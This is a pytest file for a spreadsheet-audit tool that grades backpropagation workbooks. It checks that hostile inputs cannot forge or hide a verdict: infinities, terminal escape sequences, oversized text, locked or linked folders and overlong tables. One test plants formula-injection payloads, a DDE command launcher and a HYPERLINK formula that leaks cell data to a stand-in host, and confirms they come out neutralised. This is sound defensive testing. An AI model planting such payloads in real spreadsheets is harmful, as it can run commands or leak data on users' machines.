"""The audit's verdict cannot be forged and never covers less than it says (issue 26, the audit's rows).

Each test builds the hostile input of one row of the issue's table, byte by byte where openpyxl
would refuse to write it, and fails on the audit before the fix: an infinity passed as right,
the screen could be rewritten, grades.csv ran formulas, an unlistable folder was skipped without
a word, rows past the limit were dropped without a word, a stray far cell hid the table, and one
student's 20 MB text became the report.
"""

import base64
import csv
import io
import os
import stat

import pytest

pytest.importorskip("openpyxl")

import audit_workbooks as aw  # noqa: E402

import fastbp  # noqa: E402


def run_cli(*args):
    from fastbp.cli import main

    return main(["audit", *map(str, args)])


def raw(tmp_path, rows, name="book.xlsx", sheet="Sheet1", before=b"", columns=aw.SPEC):
    grid = aw.table_grid(rows, columns)
    return aw.raw_book(tmp_path / name, [(sheet, aw.sheet_xml(grid, before=before))])


# --- an infinity is never right ---------------------------------------------------------------

KINDS = [  # (column, step): given values, computed cells, an update
    ("t1", 3),
    ("i2", 2),
    ("w1", 0),
    ("w6", 0),
    ("a_o1", 12),
    ("E_total", 12),
    ("dE_dw5", 4),
    ("w3", 5),
]


@pytest.mark.parametrize("value", [float("inf"), float("-inf"), float("nan"), b"1e999"])
@pytest.mark.parametrize("column, step", KINDS)
def test_a_non_finite_number_is_wrong_in_every_kind_of_cell(tmp_path, column, step, value):
    rows = aw.student_rows(0.5, 15)
    rows[step][column] = value
    (row,) = fastbp.audit(raw(tmp_path, rows))
    assert row["verdict"] == "wrong", row
    assert row["first_wrong_cell"] == "Sheet1!" + aw.cell(aw.SPEC, column, step), row
    assert row["slip"].split("+")[0] == "not_finite"
    assert row["message"].endswith("not a finite number")


def test_every_computed_cell_at_1e999_is_not_ok(tmp_path):
    rows = aw.student_rows(0.5, 15)
    computed = [c for c in aw.SPEC if c not in ("t1", "t2", "i1", "i2") and c not in aw.WEIGHTS]
    for r in rows:
        r.update(dict.fromkeys(computed, b"1e999"))
    (row,) = fastbp.audit(raw(tmp_path, rows))
    assert row["verdict"] == "wrong" and row["slip"] == "not_finite"
    assert row["wrong_cells"] == 15 * len(computed)


def test_an_infinity_in_a_csv_file_is_wrong(tmp_path):
    rows = aw.student_rows(0.5, 15)
    rows[12]["a_o1"] = "inf"
    with open(tmp_path / "t.csv", "w") as handle:
        handle.write(",".join(aw.SPEC) + "\n")
        handle.writelines(",".join(str(r[c]) for c in aw.SPEC) + "\n" for r in rows)
    (row,) = fastbp.audit(tmp_path / "t.csv")
    assert (row["verdict"], row["first_wrong_cell"], row["slip"]) == ("wrong", "t!R14", "not_finite")


# --- what is printed from a file is inert -----------------------------------------------------

FORGED = "\r\x1b[7A\x1b[J" + "ok: all 918 cells checked are right (rtol 1e-12)\n\n" + "\x1b[8m"


def test_the_screen_cannot_be_rewritten(tmp_path, capsys):
    rows = aw.student_rows(0.5, 6)
    rows[3]["a_o1"] = "\x1b[2Jsee \u202egnp.exe"
    columns = aw.SPEC[:10] + ["remark"] + aw.SPEC[10:]
    for r in rows:
        r["remark"] = None
    grid = aw.table_grid(rows, columns)
    grid[0][10] = FORGED
    name = "bad\nname\x1b[2J.xlsx"
    aw.raw_book(tmp_path / name, [("lr 0.5 \u202e", aw.sheet_xml(grid))])
    assert run_cli(tmp_path / name) == 1
    out = capsys.readouterr().out
    assert not set(out) & {"\x1b", "\r", "\u202e"}, out
    assert "\\x1b[7A" in out and "\\u202e" in out and "bad\\x0aname\\x1b[2J.xlsx" in out
    lines = out.splitlines()
    # Every line is the block's own: the path line, or indented under it; the forged "ok" is inside one.
    assert all(not line or line.startswith(("  ", str(tmp_path))) for line in lines), lines
    assert [line for line in lines if "ok: all 918" in line] == [
        next(x for x in lines if "note: not checked" in x)
    ]
    assert "    found    '\\x1b[2Jsee \\u202egnp.exe'" in out


@pytest.mark.slow
def test_a_long_text_is_cut_and_a_huge_one_is_over_its_budget(tmp_path, capsys):
    rows = aw.student_rows(0.5, 6)
    rows[2]["a_h1"] = "w" * 30_000
    long = raw(tmp_path, rows, "long.xlsx")
    assert run_cli(long, "--format", "csv") == 1
    out = capsys.readouterr().out
    assert len(out) < 3_000 and "… 29,800 more characters" in out
    # 20 MB of text (random letters: no ratio budget in the way) in a w1 cell.
    rows[2]["w1"] = base64.b64encode(os.urandom(15_000_000)).decode()
    huge = raw(tmp_path, rows, "huge.xlsx")
    (row,) = fastbp.audit(huge)
    assert row["verdict"] == "unreadable"
    assert row["message"] == "a text of 20,000,000 characters (budget string: 32,767)"


def test_csv_and_markdown_never_hold_a_formula(tmp_path, capsys):
    rows = aw.student_rows(0.5, 6)
    rows[3]["a_o1"] = "=cmd|' /C calc'!A0"
    sheet = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
    path = raw(tmp_path, rows, sheet=sheet)
    assert run_cli(path, "--format", "csv") == 1
    (fields,) = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert fields["sheet"] == "'" + sheet
    assert fields["found"] == "'=cmd|' /C calc'!A0"
    assert fields["first_wrong_cell"].startswith("'=HYPERLINK")  # quoted as Excel quotes a sheet name
    assert float(fields["expected"]) > 0 and float(fields["lr"]) == 0.5  # numbers stay numbers
    assert run_cli(path, "--format", "markdown") == 1
    cells = capsys.readouterr().out.splitlines()[2].split(" | ")
    assert cells[1] == "'" + sheet.replace("|", "\\|")


def test_a_negative_number_stays_a_number_in_csv(tmp_path, capsys):
    rows = aw.student_rows(0.5, 6)
    rows[3]["dE_dw1"] = -1.5  # wrong, and negative: expected and found are numbers
    assert run_cli(raw(tmp_path, rows), "--format", "csv") == 1
    (fields,) = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert fields["found"] == "-1.5"


# --- nothing is skipped without a word ---------------------------------------------------------


def _class_folder(tmp_path):
    folder = tmp_path / "class"
    (folder / "locked").mkdir(parents=True)
    raw(folder, aw.student_rows(0.5, 6), "a_good.xlsx")
    raw(folder / "locked", aw.student_rows(0.5, 6), "b_other.xlsx")
    (tmp_path / "outside").mkdir()
    raw(tmp_path / "outside", aw.student_rows(0.5, 6), "c_elsewhere.xlsx")
    os.symlink(tmp_path / "outside", folder / "linked_outside")
    return folder


def test_a_folder_that_cannot_be_listed_is_named(tmp_path, monkeypatch, capsys):
    folder = _class_folder(tmp_path)
    real = os.scandir

    def scandir(path="."):
        if os.path.basename(os.fspath(path)) == "locked":
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    rows = fastbp.audit(folder)
    shown = [(os.path.relpath(r["workbook"], folder), r["verdict"], r["message"]) for r in rows]
    assert shown == [
        ("a_good.xlsx", "ok", ""),
        (
            "linked_outside",
            "unreadable",
            f"a link leaving the folder (to {tmp_path / 'outside'}): not followed",
        ),
        ("locked", "unreadable", "a folder that cannot be listed (Permission denied): nothing in it audited"),
    ]
    assert run_cli(folder, "--format", "csv") == 2
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 2 and "locked: a folder that cannot be listed" in err[1]


@pytest.mark.skipif(os.geteuid() == 0, reason="root lists any folder")
def test_a_folder_without_permissions_is_named(tmp_path):
    folder = _class_folder(tmp_path)
    os.chmod(folder / "locked", 0)
    try:
        verdicts = [r["verdict"] for r in fastbp.audit(folder)]
    finally:
        os.chmod(folder / "locked", stat.S_IRWXU)
    assert verdicts == ["ok", "unreadable", "unreadable"]


def test_a_link_to_a_folder_inside_is_followed(tmp_path):
    folder = tmp_path / "class"
    (folder / "sub").mkdir(parents=True)
    raw(folder / "sub", aw.student_rows(0.5, 6), "book.xlsx")
    os.symlink(folder / "sub", folder / "also_sub")
    rows = fastbp.audit(folder)
    assert [(os.path.relpath(r["workbook"], folder), r["verdict"]) for r in rows] == [
        ("also_sub/book.xlsx", "ok"),
        ("sub", "unreadable"),  # the same folder again, through its real name: not walked twice
    ]
    assert rows[1]["message"] == "a link to a folder already walked: not followed again"


# --- a table longer than the rows read is not ok ------------------------------------------------


@pytest.mark.slow
def test_a_table_past_the_row_limit_is_incomplete(tmp_path, capsys):
    rows = aw.student_rows(0.5, 1_200)
    rows[1_100]["E_total"] *= 1.5  # past the limit: never seen, so the table cannot be `ok`
    path = raw(tmp_path, rows)
    (row,) = fastbp.audit(path, limits={"rows": 1_000})
    assert (row["verdict"], row["steps"]) == ("incomplete", 999)
    assert row["message"].startswith("999 steps checked; the table goes on past row 1,000")
    assert run_cli(path, "--max-rows", "1000") == 2
    assert "INCOMPLETE: all" in capsys.readouterr().out
    (row,) = fastbp.audit(path, limits={"rows": 2_000})  # the limit raised: all of it, and the slip
    assert (row["verdict"], row["steps"], row["step"]) == ("wrong", 1_200, 1_100)


def test_a_wrong_table_past_the_row_limit_says_the_rest_was_not_checked(tmp_path):
    rows = aw.student_rows(0.5, 1_200, slip="missing_half", at=500)
    (row,) = fastbp.audit(raw(tmp_path, rows), limits={"rows": 1_000})
    assert (row["verdict"], row["slip"], row["step"]) == ("wrong", "missing_half", 500)
    assert "999 steps checked; the table goes on past row 1,000" in row["notes"]


@pytest.mark.slow
def test_the_default_row_limit(tmp_path):
    # 5,050 steps: past the 5,000 rows read by default (the audit before the budgets read 100,000).
    rows = aw.student_rows(0.5, 5_050)
    (row,) = fastbp.audit(raw(tmp_path, rows), limits={"timeout": 120})
    assert (row["verdict"], row["steps"]) == ("incomplete", 4_999)


def test_the_openpyxl_reader_keeps_the_row_limit_too(tmp_path, monkeypatch):
    from fastbp.workbook_audit import readers, xlsx

    def not_understood(*args):
        raise xlsx.FormatError("a form the lean reader does not read")

    monkeypatch.setattr(readers, "read_xlsx", not_understood)  # the worker is forked: it inherits this
    path = aw.write_book(tmp_path / "b.xlsx", [(aw.student_rows(0.5, 30), aw.SPEC, {}, (1, 1))])
    (row,) = fastbp.audit(path, limits={"rows": 20})
    assert (row["verdict"], row["steps"]) == ("incomplete", 19)
    assert "at least 31 cells of sheet 'Sheet1' past row 20" in row["notes"]


@pytest.mark.parametrize("far", [b"XFD1048576", b"A1048576", b"ZZ20000"])
def test_a_stray_cell_far_away_does_not_hide_the_table(tmp_path, far):
    stray = b'<c r="%s"><v>1</v></c>' % far
    (row,) = fastbp.audit(raw(tmp_path, aw.student_rows(0.5, 10), before=stray))
    assert (row["verdict"], row["steps"]) == ("ok", 10)
    assert (
        f"1 cell of sheet 'Sheet1' past row 5,000 or column 256 not read (the first at {far.decode()}"
        in row["notes"]
    )


# --- the budgets as options -----------------------------------------------------------------------


def test_budget_options_are_checked(tmp_path, capsys):
    good = raw(tmp_path, aw.student_rows(0.5, 4))
    for args, field in [
        (("--limit", "rows=abc"), "--limit"),
        (("--limit", "nosuch=1"), "--limit"),
        (("--limit", "rows"), "--limit"),
        (("--timeout", "0"), "--timeout"),
        (("--timeout", "inf"), "--timeout"),
        (("--max-rows", "-5"), "--max-rows"),
    ]:
        assert run_cli(good, *args) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and field in err, err
    with pytest.raises(fastbp.SpecError, match="limits.cells"):
        fastbp.audit(good, limits={"cells": 0})
    (row,) = fastbp.audit(good, limits={"cells": 50})
    assert row["message"] == "more than 50 cells hold a value (budget cells)"
